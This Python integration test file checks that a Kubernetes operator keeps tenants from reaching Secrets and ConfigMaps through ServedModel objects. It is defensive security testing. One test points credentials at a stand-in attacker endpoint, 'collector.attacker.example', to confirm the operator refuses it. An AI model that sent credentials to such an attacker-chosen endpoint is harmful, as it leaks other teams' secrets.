"""A tenant who may only create, get, list and watch ServedModels in their namespace tries to
reach Secrets and ConfigMaps through a ServedModel (issue 21, items 1 and 2). Each attempt is
refused at `kubectl apply` or ends Stalled with a reason naming the rule, the refusal says
nothing about whether the object exists, and nothing outside the author's own objects changes:
no Job, no write to the Secret, nothing in another namespace.

The user is impersonated (`kubectl --as`); the ValidatingAdmissionPolicy is the one shipped in
manifests/base/credentials-admission.yaml, installed as it is.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest
from kubernetes import client

from testing.localcluster import cluster as localcluster
from testing.localcluster.operator_process import OperatorProcess
from testing.localcluster.waiting import wait_for
from tests.integration.helpers import (
    GROUP,
    PLURAL,
    REPO,
    SERVEDMODEL_AUTHOR,
    VERSION,
    AuditLog,
    Volume,
    condition,
    get_sm,
    grant,
    kubectl,
    local_operator,
    servedmodel,
    stop_operator,
    wait_condition,
)

pytestmark = pytest.mark.cluster
POLICY_FILE = REPO / "manifests" / "base" / "credentials-admission.yaml"
POLICY = "servedmodel-credentials-need-read-access"
KEYS = {"AWS_ACCESS_KEY_ID": "AKIAEXAMPLE", "AWS_SECRET_ACCESS_KEY": "not-for-the-tenant"}
OPT_IN = "serving.servedmodel.io/exporter-credentials"


@pytest.fixture(scope="module")
def credentials_policy(cluster: localcluster.Cluster) -> Iterator[None]:
    """The shipped policy and binding, for this module's tests only (cluster-scoped)."""
    kubectl(cluster, "apply", "-f", str(POLICY_FILE))
    yield
    kubectl(cluster, "delete", "-f", str(POLICY_FILE), "--ignore-not-found")


@pytest.fixture
def tenant(cluster: localcluster.Cluster, namespace: str, crd: None) -> str:
    """A user who may create, get, list and watch ServedModels in the namespace, nothing else."""
    user = f"tenant-of-{namespace}"
    grant(cluster, namespace, user, "servedmodel-author", [SERVEDMODEL_AUTHOR])
    can = kubectl(
        cluster, "--as", user, "-n", namespace, "auth", "can-i", "get", "secrets", check=False
    )
    assert can.stdout.strip() == "no"
    return user


@pytest.fixture
def victim(core: client.CoreV1Api, namespace: str) -> Iterator[str]:
    """Another team's namespace with a Secret and a ConfigMap of the same names."""
    name = f"{namespace[:50]}-other"
    core.create_namespace(client.V1Namespace(metadata=client.V1ObjectMeta(name=name)))
    core.create_namespaced_secret(
        name, client.V1Secret(metadata=client.V1ObjectMeta(name="s3-creds"), string_data=KEYS)
    )
    core.create_namespaced_config_map(
        name,
        client.V1ConfigMap(metadata=client.V1ObjectMeta(name="minio-ca"), data={"ca.crt": "x"}),
    )
    yield name
    core.delete_namespace(name)


CLOSED_ENDPOINT = "http://127.0.0.1:9"  # the discard port: nothing listens, nothing leaves


def _secret(core: client.CoreV1Api, namespace: str, name: str, **labels: str) -> None:
    meta = client.V1ObjectMeta(name=name, labels=labels or None)
    core.create_namespaced_secret(namespace, client.V1Secret(metadata=meta, string_data=KEYS))


def _source(
    secret: str | None = None, ca: str | None = None, endpoint: str | None = None
) -> dict[str, Any]:
    source: dict[str, Any] = {"uri": "s3://models/mnist/v1.keras"}
    if secret:
        source["credentialsSecretRef"] = {"name": secret}
    s3: dict[str, Any] = {"region": "us-east-1"}
    if ca:
        s3["caBundle"] = {"configMapName": ca, "key": "ca.crt"}
    if endpoint:
        s3["endpoint"] = endpoint
    source["s3"] = s3
    return source


def _model(name: str, **source: str) -> dict[str, Any]:
    body = servedmodel(name, [])
    body["spec"]["versions"] = [{"version": 1, "source": _source(**source)}]
    return body


def apply_as(
    cluster: localcluster.Cluster, user: str, namespace: str, body: dict[str, Any], *extra: str
) -> subprocess.CompletedProcess[str]:
    return kubectl(
        cluster,
        "--as",
        user,
        "-n",
        namespace,
        "apply",
        *extra,
        "-f",
        "-",
        stdin=json.dumps(body),
        check=False,
    )


def _policy_in_force(cluster: localcluster.Cluster, user: str, namespace: str) -> None:
    """The API server loads a new policy within a second or so: until a dry run is refused."""
    probe = _model("probe", secret="probe")
    wait_for(
        "the credentials admission policy to be in force",
        lambda: POLICY in apply_as(cluster, user, namespace, probe, "--dry-run=server").stderr,
        timeout=30,
    )


def _state(
    core: client.CoreV1Api, batch: client.BatchV1Api, namespaces: list[str]
) -> dict[str, Any]:
    """Every Secret, ConfigMap and Job of these namespaces, by resourceVersion."""
    out: dict[str, Any] = {}
    for ns in namespaces:
        for kind, items in (
            ("Secret", core.list_namespaced_secret(ns).items),
            ("ConfigMap", core.list_namespaced_config_map(ns).items),
            ("Job", batch.list_namespaced_job(ns).items),
        ):
            for obj in items:
                out[f"{kind} {ns}/{obj.metadata.name}"] = obj.metadata.resource_version
    return out


def _successful_writes(audit: AuditLog, mark: Any, namespace: str) -> list[str]:
    """Every write anyone made in the namespace since mark that the API server carried out."""
    return [
        f"{e['verb']} {e['objectRef'].get('resource')}/{e['objectRef'].get('name', '')}"
        for e in audit.writes(mark, namespace, user_agent="")
        if int((e.get("responseStatus") or {}).get("code", 0)) < 300
    ]


# --- item 1: who may name a Secret or a ConfigMap is RBAC's decision, at admission -------------


@pytest.mark.parametrize("kind", ["Secret", "ConfigMap"])
def test_an_object_the_author_may_not_get_is_refused_at_apply_whether_or_not_it_exists(
    cluster: localcluster.Cluster,
    core: client.CoreV1Api,
    batch: client.BatchV1Api,
    custom: client.CustomObjectsApi,
    operator: OperatorProcess,
    namespace: str,
    victim: str,
    tenant: str,
    credentials_policy: None,
    audit: AuditLog,
    kind: str,
) -> None:
    _secret(core, namespace, "s3-creds")
    core.create_namespaced_config_map(
        namespace,
        client.V1ConfigMap(metadata=client.V1ObjectMeta(name="minio-ca"), data={"ca.crt": "x"}),
    )
    field = "secret" if kind == "Secret" else "ca"
    existing, missing = {
        "Secret": ("s3-creds", "no-such-creds"),
        "ConfigMap": ("minio-ca", "no-such-ca"),
    }[kind]
    _policy_in_force(cluster, tenant, namespace)
    before, mark = _state(core, batch, [namespace, victim]), audit.mark()

    refused = [
        apply_as(cluster, tenant, namespace, _model("thief", **{field: name}))
        for name in (existing, missing)
    ]

    assert [r.returncode != 0 for r in refused] == [True, True]
    text = refused[0].stderr
    assert POLICY in text, text
    assert f"names {kind} {existing} in " in text and f"{tenant} may not get it" in text
    # The same words for the object that exists and the one that does not: no oracle.
    assert text.replace(existing, "NAME") == refused[1].stderr.replace(missing, "NAME")
    assert "not found" not in text.lower() and "exist" not in text.lower()
    # Nothing was written anywhere: no ServedModel, no Job, every object as it was.
    assert custom.list_namespaced_custom_object(GROUP, VERSION, namespace, PLURAL)["items"] == []
    assert _state(core, batch, [namespace, victim]) == before
    assert _successful_writes(audit, mark, namespace) == []
    assert _successful_writes(audit, mark, victim) == []

    # RBAC decides, nothing else: allowed to get that one object, the author passes admission.
    resource = "secrets" if kind == "Secret" else "configmaps"
    rule = {
        "apiGroups": [""],
        "resources": [resource],
        "resourceNames": [existing],
        "verbs": ["get"],
    }
    grant(cluster, namespace, tenant, "may-read-it", [rule])
    allowed = apply_as(
        cluster, tenant, namespace, _model("thief", **{field: existing}), "--dry-run=server"
    )
    assert allowed.returncode == 0, allowed.stderr


def test_an_edit_is_judged_by_the_entries_it_adds(
    cluster: localcluster.Cluster,
    core: client.CoreV1Api,
    custom: client.CustomObjectsApi,
    namespace: str,
    credentials_policy: None,
) -> None:
    """An editor who may patch ServedModels but not read the Secret may change other fields of
    a model whose author could read it, and may not add a version that uses the Secret."""
    editor = f"editor-of-{namespace}"
    verbs = ["create", "get", "list", "watch", "patch", "update"]
    grant(
        cluster,
        namespace,
        editor,
        "editor",
        [{"apiGroups": [GROUP], "resources": [PLURAL], "verbs": verbs}],
    )
    _secret(core, namespace, "s3-creds")
    _policy_in_force(cluster, editor, namespace)
    custom.create_namespaced_custom_object(
        GROUP, VERSION, namespace, PLURAL, _model("shared", secret="s3-creds")
    )

    def patch(body: list[dict[str, Any]]) -> subprocess.CompletedProcess[str]:
        return kubectl(
            cluster,
            "--as",
            editor,
            "-n",
            namespace,
            "patch",
            "sm",
            "shared",
            "--type=json",
            "-p",
            json.dumps(body),
            check=False,
        )

    unrelated = patch([{"op": "add", "path": "/spec/server", "value": {"replicas": 2}}])
    assert unrelated.returncode == 0, unrelated.stderr
    new_version = {"op": "add", "path": "/spec/versions/-"}
    added = patch([{**new_version, "value": {"version": 2, "source": _source(secret="s3-creds")}}])
    assert added.returncode != 0 and POLICY in added.stderr
    assert f"names Secret s3-creds in credentialsSecretRef, and {editor} may not get it" in (
        added.stderr
    )
    plain = patch([{**new_version, "value": {"version": 2, "source": _source()}}])
    assert plain.returncode == 0, plain.stderr
    versions = get_sm(custom, namespace, "shared")["spec"]["versions"]
    assert [v["version"] for v in versions] == [1, 2]
    assert "credentialsSecretRef" not in versions[1]["source"]


# --- item 1: credentials go only to the object-store endpoints the operator allows -------------


def test_credentials_with_an_endpoint_of_the_authors_choice_are_refused(
    cluster: localcluster.Cluster,
    core: client.CoreV1Api,
    batch: client.BatchV1Api,
    custom: client.CustomObjectsApi,
    operator: OperatorProcess,
    namespace: str,
    victim: str,
    tenant: str,
    store: Volume,
    credentials_policy: None,
    audit: AuditLog,
) -> None:
    """Even an author who may read the Secret cannot have the exporter sign requests (or send a
    GCS token) to an address they chose: Stalled, naming the rule and the flag, no Job."""
    _secret(core, namespace, "s3-creds")
    rule = {
        "apiGroups": [""],
        "resources": ["secrets"],
        "resourceNames": ["s3-creds"],
        "verbs": ["get"],
    }
    grant(cluster, namespace, tenant, "may-read-it", [rule])
    before, mark = _state(core, batch, [namespace, victim]), audit.mark()
    endpoint = "http://collector.attacker.example:9000"
    done = apply_as(
        cluster, tenant, namespace, _model("exfil", secret="s3-creds", endpoint=endpoint)
    )
    assert done.returncode == 0, done.stderr

    obj = wait_condition(
        custom, namespace, "exfil", "Stalled", "True", reason="EndpointNotAllowed", timeout=120
    )
    message = condition(obj, "Stalled")["message"]
    assert endpoint in message and "--allowed-object-store-endpoints" in message
    assert condition(obj, "Ready")["status"] == "False"
    assert batch.list_namespaced_job(namespace).items == []
    assert _state(core, batch, [namespace, victim]) == before
    written = {w.split()[1].split("/")[0] for w in _successful_writes(audit, mark, namespace)}
    assert written <= {"servedmodels", "events"}, written  # the model itself, its status, events
    assert _successful_writes(audit, mark, victim) == []


# --- item 1, without the admission policy: the operator's opt-in label, one refusal for all ----


@pytest.fixture
def opt_in_operator(
    cluster: localcluster.Cluster,
    namespace: str,
    crd: None,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[OperatorProcess]:
    """The operator as a cluster without the admission policy would run it."""
    # The Job this test lets start fetches from a closed loopback port (nothing leaves
    # loopback: a default AWS endpoint would be a name lookup outside it).
    proc = local_operator(
        cluster,
        namespace,
        tmp_path_factory.mktemp("operator"),
        "--credentials-opt-in",
        f"--allowed-object-store-endpoints={CLOSED_ENDPOINT}",
    )
    proc.start()
    yield proc
    stop_operator(proc)


def test_under_the_opt_in_label_an_absent_an_unlabelled_and_an_incomplete_secret_read_the_same(
    core: client.CoreV1Api,
    batch: client.BatchV1Api,
    custom: client.CustomObjectsApi,
    opt_in_operator: OperatorProcess,
    namespace: str,
    store: Volume,
) -> None:
    _secret(core, namespace, "unlabelled")
    meta = client.V1ObjectMeta(name="incomplete", labels={OPT_IN: "true"})
    core.create_namespaced_secret(
        namespace,
        client.V1Secret(metadata=meta, string_data={"AWS_ACCESS_KEY_ID": "AKIAEXAMPLE"}),
    )
    names = {"absent": "nowhere", "unlabelled": "unlabelled", "incomplete": "incomplete"}
    for model, secret in names.items():
        custom.create_namespaced_custom_object(
            GROUP,
            VERSION,
            namespace,
            PLURAL,
            _model(model, secret=secret, endpoint=CLOSED_ENDPOINT),
        )
    messages = {
        model: condition(
            wait_condition(
                custom, namespace, model, "Stalled", "True", reason="CredentialsMissing"
            ),
            "Stalled",
        )["message"].replace(secret, "NAME")
        for model, secret in names.items()
    }
    assert len(set(messages.values())) == 1, messages
    assert messages["absent"] == (
        "version 1: SecretUnavailable: Secret NAME cannot be given to the exporter: it needs to "
        "exist in this namespace with the keys AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY and the "
        f"label {OPT_IN}=true (the operator's --credentials-opt-in)"
    )
    assert batch.list_namespaced_job(namespace).items == []

    # Labelled, the complete Secret is handed over: the next look starts the Job.
    core.patch_namespaced_secret(
        "unlabelled", namespace, {"metadata": {"labels": {OPT_IN: "true"}}}
    )
    selector = "app.kubernetes.io/instance=unlabelled"
    wait_for(
        "the labelled Secret's export to start",
        lambda: batch.list_namespaced_job(namespace, label_selector=selector).items,
        timeout=60,
    )
    assert len(batch.list_namespaced_job(namespace).items) == 1  # only that one
